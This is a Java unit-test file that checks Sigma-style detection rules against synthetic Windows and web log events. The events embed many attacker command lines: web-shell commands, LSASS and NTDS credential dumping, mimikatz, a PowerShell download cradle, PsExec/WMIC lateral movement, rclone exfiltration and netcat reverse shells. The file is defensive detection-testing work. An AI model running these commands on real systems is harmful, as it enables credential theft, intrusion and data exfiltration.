package org.dotlink.sigma.builtin;

import static org.dotlink.sigma.builtin.LogEvents.application;
import static org.dotlink.sigma.builtin.LogEvents.process;
import static org.dotlink.sigma.builtin.LogEvents.security;
import static org.dotlink.sigma.builtin.LogEvents.sysmon;
import static org.dotlink.sigma.builtin.LogEvents.system;
import static org.dotlink.sigma.builtin.LogEvents.web;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.dotlink.core.Event;
import org.dotlink.sigma.compile.CompiledRule;
import org.dotlink.sigma.compile.RuleCompiler;
import org.dotlink.sigma.logsource.LogsourceMapping;
import org.dotlink.sigma.rule.SigmaRule;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Every built-in rule, compiled with the logsource mapping, matches the events written here for it and
 * none of its near misses: the same activity without the decisive detail, or the benign look-alike the
 * rule's filters are there for.
 */
class BuiltinRuleCasesTest {

    /** Events a rule must match, and near misses it must not. */
    private record Case(List<Event> matching, List<Event> nearMisses) {}

    private static final Map<String, Case> CASES = new LinkedHashMap<>();

    private static void rule(String file, List<Event> matching, List<Event> nearMisses) {
        CASES.put(file, new Case(matching, nearMisses));
    }

    private static final String SYS32 = "C:\\Windows\\System32\\";
    private static final String CMD = SYS32 + "cmd.exe";
    private static final String POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String LSASS = "C:\\Windows\\system32\\lsass.exe";
    private static final String EXCHANGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
    private static final String W3WP = "c:\\windows\\system32\\inetsrv\\w3wp.exe";

    static {
        // ---------------------------------------------------------------- Exchange and web shells
        rule("dotlink_web_exchange_ssrf.yml",
                List.of(web("POST", "/ecp/y.js", null, 200, "cs(Cookie)",
                                "X-AnonResource=true;+X-AnonResource-Backend=localhost/ecp/default.flt?~3;"
                                        + "+X-BEResource=localhost/owa/auth/logon.aspx?~3;"),
                        web("GET", "/ecp/default.flt", null, 200, "cs(Cookie)",
                                "X-BEResource=EXCH01.corp.example/EWS/Exchange.asmx?a=~1942062522;"),
                        web("POST", "/owa/auth/Current/themes/resources/logon.css", null, 200)),
                List.of(web("GET", "/ecp/15.2.792.3/scripts/premium/flighting.js", null, 200),
                        web("GET", "/owa/auth/15.2.792.3/themes/resources/favicon.ico", null, 200, "cs(Cookie)",
                                "X-BEResource=EXCH02.corp.example~1942062522;+PrivateComputer=true"),
                        web("POST", "/owa/auth.owa", null, 302)));
        rule("dotlink_web_exchange_shell_page.yml",
                List.of(web("GET", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 200),
                        web("GET", "/aspnet_client/system_web/log.aspx", null, 200)),
                List.of(web("GET", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail.corp.example%2fowa%2f",
                                200),
                        web("GET", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 404),
                        web("POST", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 200)));
        rule("dotlink_web_china_chopper_post.yml",
                List.of(web("POST", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 200),
                        web("POST", "/aspnet_client/system_web/log.aspx", null, 200)),
                List.of(web("POST", "/owa/auth/expiredpassword.aspx", null, 200),
                        web("POST", "/aspnet_client/system_web/log.aspx", null, 404),
                        web("POST", "/erp/conn.aspx", "proxy", 200)));
        rule("dotlink_web_tunna_tunnel.yml",
                List.of(web("GET", "/erp/conn.aspx", "proxy&port=3389&ip=127.0.0.1", 200)),
                List.of(web("POST", "/erp/conn.aspx", "proxy", 200),
                        web("GET", "/shop/stores.aspx", "port=80&ip=10.10.1.5", 200)));
        rule("dotlink_web_regeorg_tunnel.yml",
                List.of(web("POST", "/aspnet_client/tunnel.ashx", "cmd=connect&target=10.10.20.5&port=3389", 200)),
                List.of(web("POST", "/aspnet_client/tunnel.ashx", "cmd=read", 200),
                        web("GET", "/search.aspx", "q=connect+target+port", 200)));
        rule("dotlink_web_large_response.yml",
                List.of(web("POST", "/aspnet_client/system_web/log.aspx", null, 200, "sc-bytes", "734003200"),
                        web("GET", "/owa/auth/cdr_0316.rar", null, 200, "sc-bytes", "120000000")),
                List.of(web("POST", "/aspnet_client/system_web/log.aspx", null, 200, "sc-bytes", "51200"),
                        web("GET", "/media/townhall.mp4", null, 200, "sc-bytes", "900000000")));
        rule("dotlink_proc_exchange_worker_shell.yml",
                List.of(process(CMD, "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo [S]&cd&echo [E]\"",
                                "ParentImage", W3WP),
                        process(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgA",
                                "ParentImage", EXCHANGE + "Bin\\UMWorkerProcess.exe")),
                List.of(process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths"
                                        + " @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\"
                                        + "a3c1e2f0\\5b0f1d2c\\hwk3ub0y.cmdline\"",
                                "ParentImage", W3WP),
                        process(CMD, "\"C:\\Windows\\system32\\cmd.exe\"", "ParentImage", "C:\\Windows\\explorer.exe")));
        rule("dotlink_proc_china_chopper_cmdline.yml",
                List.of(process(CMD, "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo [S]&cd&echo [E]\"",
                                "ParentImage", W3WP),
                        process(CMD, "cmd /c cd /d \"" + EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\\"&ipconfig /all",
                                "ParentImage", W3WP)),
                List.of(process(CMD, "cmd /c cd /d \"C:\\Users\\admin\\Documents\"&dir"),
                        process(CMD, "cmd.exe /c echo [S]")));
        rule("dotlink_file_exchange_webshell.yml",
                List.of(sysmon(11, "Image", W3WP, "TargetFilename",
                                EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\8Lw7tAhF9i1pJnRo.aspx"),
                        sysmon(11, "Image", EXCHANGE + "Bin\\UMWorkerProcess.exe", "TargetFilename",
                                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx")),
                List.of(sysmon(11, "Image", "C:\\Windows\\System32\\msiexec.exe", "TargetFilename",
                                EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx"),
                        sysmon(11, "Image", W3WP, "TargetFilename",
                                EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\15.2.792.3\\scripts\\premium\\boot.js")));
        rule("dotlink_image_exchange_backdoor_dll.yml",
                List.of(sysmon(7, "Image", W3WP, "ImageLoaded",
                                EXCHANGE + "ClientAccess\\Owa\\bin\\Microsoft.Exchange.Clients.Event.dll",
                                "Signed", "false", "SignatureStatus", "Unavailable"),
                        sysmon(7, "Image", EXCHANGE + "Bin\\MSExchangeFrontendTransport.exe", "ImageLoaded",
                                "C:\\Windows\\Temp\\msv1.dll", "Signed", "false")),
                List.of(sysmon(7, "Image", W3WP, "ImageLoaded",
                                EXCHANGE + "ClientAccess\\Owa\\bin\\Microsoft.Exchange.Clients.Owa2.Server.dll",
                                "Signed", "true", "SignatureStatus", "Valid"),
                        sysmon(7, "Image", SYS32 + "svchost.exe", "ImageLoaded", "C:\\Windows\\Temp\\msv1.dll",
                                "Signed", "false")));

        // ---------------------------------------------------------------- credential theft
        rule("dotlink_access_lsass.yml",
                List.of(sysmon(10, "SourceImage", "C:\\Users\\Public\\pd64.exe", "TargetImage", LSASS,
                                "GrantedAccess", "0x1fffff", "CallTrace", SYS32 + "ntdll.dll+9fc24|UNKNOWN(00007FF6A1B2C3D4)"),
                        sysmon(10, "SourceImage", POWERSHELL, "TargetImage", LSASS, "GrantedAccess", "0x1010")),
                List.of(sysmon(10, "SourceImage", SYS32 + "svchost.exe", "TargetImage", LSASS, "GrantedAccess", "0x1fffff"),
                        sysmon(10, "SourceImage", "C:\\Users\\Public\\pd64.exe", "TargetImage", LSASS,
                                "GrantedAccess", "0x1000"),
                        sysmon(10, "SourceImage",
                                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe",
                                "TargetImage", LSASS, "GrantedAccess", "0x1fffff")));
        rule("dotlink_proc_lsass_dump_tools.yml",
                List.of(process("C:\\ProgramData\\pd64.exe", "pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp"),
                        process(SYS32 + "rundll32.exe",
                                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\o.dmp full"),
                        process(SYS32 + "rdrleakdiag.exe", "rdrleakdiag.exe /p 668 /o C:\\Windows\\Temp /fullmemdmp /snap")),
                List.of(process("C:\\ProgramData\\pd64.exe", "pd64.exe -accepteula -ma w3wp.exe C:\\Windows\\Temp\\w3.dmp"),
                        process(SYS32 + "regsvr32.exe", "regsvr32.exe /s C:\\Windows\\System32\\comsvcs.dll"),
                        process(SYS32 + "rdrleakdiag.exe", "rdrleakdiag.exe /p 668 /o C:\\Windows\\Temp /snap")));
        rule("dotlink_file_lsass_dump.yml",
                List.of(sysmon(11, "Image", SYS32 + "rundll32.exe", "TargetFilename", "C:\\Windows\\Temp\\lsass.dmp"),
                        sysmon(11, "Image", SYS32 + "Taskmgr.exe", "TargetFilename",
                                "C:\\Users\\admin\\AppData\\Local\\Temp\\lsass (2).DMP")),
                List.of(sysmon(11, "Image", SYS32 + "rundll32.exe", "TargetFilename", "C:\\Windows\\Temp\\notepad.dmp"),
                        sysmon(11, "Image", CMD, "TargetFilename", "C:\\Windows\\Temp\\lsass_notes.txt")));
        rule("dotlink_proc_mimikatz.yml",
                List.of(process("C:\\ProgramData\\m64.exe", "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
                        process(POWERSHELL, "powershell.exe \"IEX (New-Object Net.WebClient).DownloadString('http://10.10.9.9/a');"
                                + " Invoke-Mimikatz -DumpCreds\""),
                        process("C:\\ProgramData\\svc.exe", "svc.exe", "OriginalFileName", "mimikatz.exe")),
                List.of(process(CMD, "cmd /c echo sekurlsa"),
                        process(SYS32 + "klist.exe", "klist.exe purge", "OriginalFileName", "klist.exe")));
        rule("dotlink_proc_reg_save_hives.yml",
                List.of(process(SYS32 + "reg.exe", "reg  save HKLM\\SAM sam.hive"),
                        process("C:\\ProgramData\\r.exe", "r.exe save HKEY_LOCAL_MACHINE\\SECURITY C:\\ProgramData\\s.dat /y",
                                "OriginalFileName", "reg.exe")),
                List.of(process(SYS32 + "reg.exe", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa"),
                        process(SYS32 + "reg.exe", "reg save HKCU\\Software\\Vendor app.hiv")));
        rule("dotlink_proc_ntds_theft.yml",
                List.of(process(SYS32 + "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\ifm\" q q"),
                        process(SYS32 + "vssadmin.exe", "vssadmin.exe  create shadow /for=C:"),
                        process(SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy call create Volume='C:\\'"),
                        process(CMD, "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit"
                                + " C:\\ProgramData\\n.dit")),
                List.of(process(SYS32 + "vssadmin.exe", "vssadmin  List Shadows"),
                        process(SYS32 + "wbem\\WMIC.exe", "wmic.exe  process call create"
                                + " \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy7\\\\Windows\\Temp\\svhost64.exe"),
                        process(SYS32 + "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"files\" \"info\" q q")));
        rule("dotlink_app_ntds_database_copy.yml",
                List.of(application("ESENT", 325, "Data", "NTDS", "Data", "3392", "Data", "", "Data", "2",
                                "Data", "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit", "Data", "0"),
                        application("ESENT", 326, "Data", "NTDS", "Data", "3392", "Data", "", "Data", "1",
                                "Data", "C:\\$SNAP_202103030245_VOLUMEC$\\Windows\\NTDS\\ntds.dit", "Data", "0")),
                List.of(application("ESENT", 325, "Data", "NTDS", "Data", "612", "Data", "", "Data", "1",
                                "Data", "C:\\Windows\\NTDS\\ntds.dit", "Data", "0"),
                        application("ESENT", 326, "Data", "lsass", "Data", "612", "Data", "", "Data", "1",
                                "Data", "C:\\Windows\\NTDS\\ntds.dit", "Data", "0"),
                        application("ESENT", 327, "Data", "NTDS", "Data", "3392", "Data", "", "Data", "1",
                                "Data", "C:\\$SNAP_202103030245_VOLUMEC$\\Windows\\NTDS\\ntds.dit", "Data", "0")));

        // ---------------------------------------------------------------- accounts
        rule("dotlink_sec_privileged_group_add.yml",
                List.of(security(4728, "MemberName", "CN=svc_backup2,CN=Users,DC=corp,DC=example",
                                "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127", "TargetUserName", "Domain Admins",
                                "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-512"),
                        security(4732, "MemberName", "-", "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Administrateurs", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544"),
                        security(4756, "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Enterprise Admins", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-519")),
                List.of(security(4728, "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Domain Users", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-513"),
                        security(4729, "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Domain Admins", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-512")));
        rule("dotlink_proc_net_group_admin_add.yml",
                List.of(process(SYS32 + "net.exe", "net group \"Domain Admins\" svc_backup2 /add /domain"),
                        process(SYS32 + "net1.exe", "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add")),
                List.of(process(SYS32 + "net.exe", "net group \"Domain Admins\" /domain"),
                        process(SYS32 + "net.exe", "net localgroup \"Remote Desktop Users\" helpdesk /add")));

        // ---------------------------------------------------------------- lateral movement
        rule("dotlink_proc_psexec.yml",
                List.of(process("C:\\ProgramData\\PsExec64.exe", "PsExec64.exe \\\\10.10.20.15 -accepteula -s cmd.exe"),
                        process("C:\\ProgramData\\ps.exe", "ps.exe \\\\BILL-DB01 -u CORP\\svc_backup2 -p x /accepteula"
                                + " c:\\programdata\\r.bat"),
                        process("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                                "ParentImage", SYS32 + "services.exe")),
                List.of(process("C:\\ProgramData\\pd64.exe", "pd64.exe -accepteula -ma lsass.exe \\\\fs01\\share\\l.dmp"),
                        process("C:\\ProgramData\\PsExec64.exe", "PsExec64.exe -accepteula -s -i cmd.exe")));
        rule("dotlink_sys_psexec_service.yml",
                List.of(system("Service Control Manager", 7045, "ServiceName", "PSEXESVC",
                        "ImagePath", "%SystemRoot%\\PSEXESVC.exe", "ServiceType", "user mode service",
                        "StartType", "demand start", "AccountName", "LocalSystem")),
                List.of(system("Service Control Manager", 7045, "ServiceName", "Sysmon64",
                                "ImagePath", "C:\\Windows\\Sysmon64.exe", "ServiceType", "user mode service",
                                "StartType", "auto start", "AccountName", "LocalSystem"),
                        system("Service Control Manager", 7036, "param1", "PSEXESVC", "param2", "running")));
        rule("dotlink_sys_service_shell.yml",
                List.of(system("Service Control Manager", 7045, "ServiceName", "spoolfool", "ImagePath", "cmd.exe",
                                "AccountName", "LocalSystem"),
                        system("Service Control Manager", 7045, "ServiceName", "BTOBTO", "ImagePath",
                                "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"
                                        + " & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat"),
                        system("Service Control Manager", 7045, "ServiceName", "svcupd", "ImagePath",
                                "C:\\ProgramData\\svc.exe")),
                List.of(system("Service Control Manager", 7045, "ServiceName", "Sysmon64", "ImagePath",
                                "C:\\Windows\\Sysmon64.exe"),
                        system("Service Control Manager", 7045, "ServiceName", "CmdAgent", "ImagePath",
                                "\"C:\\Program Files\\Vendor\\cmdagent.exe\" -service")));
        rule("dotlink_proc_sc_remote_service.yml",
                List.of(process(SYS32 + "sc.exe", "sc.exe \\\\BILL-DB01 create svcupd binPath= \"C:\\ProgramData\\svc.exe\""
                                + " start= auto"),
                        process(SYS32 + "sc.exe", "sc \\\\10.10.20.5 config Spooler binPath= \"cmd /c C:\\ProgramData\\r.bat\"")),
                List.of(process(SYS32 + "sc.exe", "sc.exe create svcupd binPath= \"C:\\ProgramData\\svc.exe\""),
                        process(SYS32 + "sc.exe", "sc \\\\BILL-DB01 query Spooler")));
        rule("dotlink_proc_wmic_remote_process.yml",
                List.of(process(SYS32 + "wbem\\WMIC.exe",
                        "wmic /node:10.10.20.5 /user:CORP\\svc_backup2 process call create \"cmd /c c:\\programdata\\r.bat\"")),
                List.of(process(SYS32 + "wbem\\WMIC.exe", "wmic /node:localhost process call create calc.exe"),
                        process(SYS32 + "wbem\\WMIC.exe", "wmic /node:10.10.20.5 os get caption")));
        rule("dotlink_proc_wmiprvse_shell.yml",
                List.of(process(CMD, "cmd.exe /c c:\\programdata\\r.bat", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(POWERSHELL, "powershell -nop -c Get-Process", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe")),
                List.of(process(SYS32 + "notepad.exe", "notepad.exe", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(CMD, "cmd.exe /c c:\\programdata\\r.bat", "ParentImage", SYS32 + "services.exe")));
        rule("dotlink_proc_impacket_exec_output.yml",
                List.of(process(CMD, "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1",
                                "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(CMD, "C:\\Windows\\system32\\cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"
                                + " > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c"
                                + " C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat",
                                "ParentImage", SYS32 + "services.exe")),
                List.of(process(CMD, "cmd.exe /Q /c whoami /all", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(CMD, "cmd.exe /c dir > \\\\127.0.0.1\\c$\\out.txt 2>&1")));

        // ---------------------------------------------------------------- persistence
        rule("dotlink_proc_schtasks_suspicious.yml",
                List.of(process(SYS32 + "schtasks.exe",
                                "schtasks  /create /tn \"mysc\" /tr C:\\windows\\system32\\calc.exe /sc ONLOGON /ru \"System\" /f"),
                        process(SYS32 + "schtasks.exe", "schtasks  /Create /f /XML"
                                + " C:\\Users\\admin\\AppData\\Local\\Temp\\sduchxll.tmp /TN DataUsageHandlers"),
                        process("C:\\ProgramData\\st.exe", "st.exe -create -tn upd -tr C:\\ProgramData\\svc.exe -sc minute",
                                "OriginalFileName", "schtasks.exe")),
                List.of(process(SYS32 + "schtasks.exe",
                                "SCHTASKS  /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10"),
                        process(SYS32 + "schtasks.exe", "schtasks.exe /run /tn \"\\Microsoft\\Windows\\DiskCleanup\\SilentCleanup\"")));
        rule("dotlink_sec_scheduled_task_created.yml",
                List.of(security(4698, "SubjectUserName", "svc_backup2", "TaskName", "\\Microsoft\\Windows\\Update\\upd",
                                "TaskContent", task("S-1-5-21-3461203602-4096304019-2269080069-1127",
                                        "C:\\ProgramData\\svc.exe", "")),
                        security(4698, "SubjectUserName", "Administrator", "TaskName", "\\CYAlyNSS",
                                "TaskContent", task("S-1-5-18", "cmd.exe", "/C tasklist &gt; nul 2&gt;&amp;1"))),
                List.of(security(4698, "SubjectUserName", "SYSTEM", "TaskName", "\\GoogleUpdateTaskMachineCore",
                                "TaskContent", task("S-1-5-18", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/c")),
                        security(4699, "SubjectUserName", "svc_backup2", "TaskName", "\\Microsoft\\Windows\\Update\\upd",
                                "TaskContent", task("S-1-5-21-3461203602-4096304019-2269080069-1127",
                                        "C:\\ProgramData\\svc.exe", ""))));
        rule("dotlink_image_dll_sideloading.yml",
                List.of(sysmon(7, "Image", "C:\\ProgramData\\Intel\\CV.exe", "ImageLoaded", "C:\\ProgramData\\Intel\\wwlib.dll",
                                "Signed", "false", "SignatureStatus", "Unavailable"),
                        sysmon(7, "Image", "C:\\Users\\admin\\Desktop\\tools\\jjs.exe", "ImageLoaded",
                                "C:\\Users\\admin\\Desktop\\tools\\jli.dll", "Signed", "false")),
                List.of(sysmon(7, "Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "ImageLoaded",
                                "C:\\Program Files\\Microsoft Office\\root\\Office16\\wwlib.dll", "Signed", "true"),
                        sysmon(7, "Image", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe",
                                "ImageLoaded", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\mpsvc.dll",
                                "Signed", "true", "SignatureStatus", "Valid")));

        // ---------------------------------------------------------------- collection and exfiltration
        rule("dotlink_proc_archive_password.yml",
                List.of(process("C:\\ProgramData\\rar.exe", "rar.exe a -r -v500m -hpP4ssw0rd C:\\$Recycle.Bin\\cdr.rar"
                                + " D:\\Billing\\CDR\\*.csv"),
                        process("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pS3cret -mhe=on C:\\Users\\Public\\x.7z D:\\Billing"),
                        process("C:\\Windows\\Temp\\wmiprv.exe", "wmiprv.exe a -hpP4ssw0rd C:\\Windows\\Temp\\d.rar D:\\Billing")),
                List.of(process("C:\\ProgramData\\rar.exe", "rar a -r exfilthis.rar *.docx"),
                        process("C:\\ProgramData\\rar.exe", "rar.exe x -pS3cret C:\\Users\\Public\\tools.rar C:\\ProgramData\\")));
        rule("dotlink_file_archive_staging.yml",
                List.of(sysmon(11, "Image", "C:\\ProgramData\\r.exe", "TargetFilename", "C:\\$Recycle.Bin\\cdr_0316.part01.rar"),
                        sysmon(11, "Image", "C:\\Program Files\\WinRAR\\WinRAR.exe", "TargetFilename",
                                "C:\\Users\\Public\\billing.7z")),
                List.of(sysmon(11, "Image", "C:\\Windows\\explorer.exe", "TargetFilename",
                                "C:\\$Recycle.Bin\\S-1-5-21-3461203602-4096304019-2269080069-1127\\$IK3J8Q2.zip"),
                        sysmon(11, "Image", SYS32 + "svchost.exe", "TargetFilename",
                                "C:\\Users\\admin\\AppData\\Local\\Temp\\Personalization\\LockScreenImage\\LockScreenImage_x.7z"),
                        sysmon(11, "Image", "C:\\Program Files\\WinRAR\\WinRAR.exe", "TargetFilename", "D:\\Backups\\week.rar")));
        rule("dotlink_net_transfer_tool.yml",
                List.of(sysmon(3, "Image", "C:\\ProgramData\\rclone.exe", "Protocol", "tcp", "Initiated", "true",
                        "SourceIp", "10.10.20.5", "DestinationIp", "198.51.100.20", "DestinationPort", "443")),
                List.of(sysmon(3, "Image", "C:\\ProgramData\\rclone.exe", "Protocol", "tcp", "Initiated", "false",
                                "SourceIp", "10.10.20.9", "DestinationIp", "10.10.20.5", "DestinationPort", "5572"),
                        sysmon(3, "Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Protocol", "tcp",
                                "Initiated", "true", "DestinationIp", "198.51.100.20", "DestinationPort", "443")));

        // ---------------------------------------------------------------- tunnels and discovery
        rule("dotlink_proc_htran.yml",
                List.of(process("C:\\ProgramData\\svc.exe", "svc.exe -tran 53 10.10.20.5 3389"),
                        process("C:\\ProgramData\\svc.exe", "svc.exe -slave 203.0.113.7 443 10.10.20.5 3389"),
                        process("C:\\ProgramData\\svc.exe", "svc.exe -listen 8080 443")),
                List.of(process("C:\\Program Files\\nodejs\\node.exe", "node.exe server.js -listen localhost"),
                        process("C:\\ProgramData\\svc.exe", "svc.exe -tran")));
        rule("dotlink_proc_softether_vpn.yml",
                List.of(process("C:\\ProgramData\\vmtools\\vpnbridge.exe", "vpnbridge.exe /service",
                                "ParentImage", SYS32 + "services.exe"),
                        process("C:\\ProgramData\\vmtools\\taskhst.exe", "taskhst.exe /usermode",
                                "Description", "SoftEther VPN Bridge", "Product", "SoftEther VPN")),
                List.of(process("C:\\Program Files\\SoftEther VPN Client\\vpnclient_x64.exe", "vpnclient_x64.exe /service",
                                "Description", "SoftEther VPN Client", "Product", "SoftEther VPN"),
                        process("C:\\Program Files\\OpenVPN\\bin\\openvpn.exe", "openvpn.exe --config corp.ovpn")));
        rule("dotlink_file_softether_hamcore.yml",
                List.of(sysmon(11, "Image", "C:\\ProgramData\\vmtools\\taskhst.exe", "TargetFilename",
                        "C:\\ProgramData\\vmtools\\hamcore.se2")),
                List.of(sysmon(11, "Image", "C:\\ProgramData\\vmtools\\taskhst.exe", "TargetFilename",
                        "C:\\ProgramData\\vmtools\\vpn_bridge.config")));
        rule("dotlink_proc_netcat_shell.yml",
                List.of(process("C:\\Users\\admin\\Tools\\nc64.exe", "nc64.exe 10.0.2.11 3001 -e cmd.exe"),
                        process("C:\\ProgramData\\nc.exe", "nc.exe -l -p 4444 -e cmd.exe"),
                        process("C:\\ProgramData\\nc.exe", "nc.exe -lvp 4444")),
                List.of(process("C:\\Users\\Public\\Tools\\nc.exe", "nc.exe  127.0.0.1 1337"),
                        process(POWERSHELL, "powershell.exe -e JABjAGwAaQBlAG4AdAAgAD0A")));
        rule("dotlink_proc_nbtscan.yml",
                List.of(process("C:\\ProgramData\\nbtscan.exe", "nbtscan.exe 10.10.0.0/16"),
                        process(CMD, "cmd /c \"C:\\ProgramData\\nbtscan\" -r 10.10.20.0/24 > C:\\ProgramData\\n.txt")),
                List.of(process(SYS32 + "attrib.exe", "attrib  +h nbtscan.exe"),
                        process(CMD, "cmd /c del C:\\ProgramData\\nbtscan.exe")));
    }

    /** A task definition as event 4698 carries it, reduced to the parts the rules read. */
    private static String task(String userId, String command, String arguments) {
        return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n"
                + "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
                + "  <Triggers>\n    <CalendarTrigger>\n      <StartBoundary>2021-03-03T02:50:00</StartBoundary>\n"
                + "    </CalendarTrigger>\n  </Triggers>\n"
                + "  <Principals>\n    <Principal id=\"Author\">\n      <UserId>" + userId + "</UserId>\n"
                + "      <RunLevel>HighestAvailable</RunLevel>\n    </Principal>\n  </Principals>\n"
                + "  <Actions Context=\"Author\">\n    <Exec>\n      <Command>" + command + "</Command>\n"
                + "      <Arguments>" + arguments + "</Arguments>\n    </Exec>\n  </Actions>\n</Task>";
    }

    private static final RuleCompiler COMPILER = new RuleCompiler(LogsourceMapping.builtIn(), Map.of());

    @Test
    void everyBuiltinRuleHasCasesAndEveryCaseARule() throws IOException {
        assertEquals(new TreeSet<>(BuiltinRulesTest.detectionRules().keySet()), new TreeSet<>(CASES.keySet()));
    }

    @TestFactory
    Stream<DynamicTest> eachRuleMatchesItsEventsAndNoneOfItsNearMisses() throws IOException {
        List<DynamicTest> tests = new ArrayList<>();
        for (Map.Entry<String, SigmaRule> r : BuiltinRulesTest.detectionRules().entrySet()) {
            SigmaRule rule = r.getValue();
            Case c = CASES.get(r.getKey());
            if (c == null) {
                continue; // reported by everyBuiltinRuleHasCasesAndEveryCaseARule
            }
            tests.add(DynamicTest.dynamicTest(r.getKey(), () -> {
                CompiledRule compiled = COMPILER.compile(rule);
                assertFalse(c.matching().isEmpty(), "at least one matching event");
                assertFalse(c.nearMisses().isEmpty(), "at least one near miss");
                for (Event e : c.matching()) {
                    assertTrue(compiled.matches(e), rule.title() + " should match " + e.toMap());
                }
                for (Event e : c.nearMisses()) {
                    assertFalse(compiled.matches(e), rule.title() + " should not match " + e.toMap());
                }
            }));
        }
        return tests.stream();
    }
}
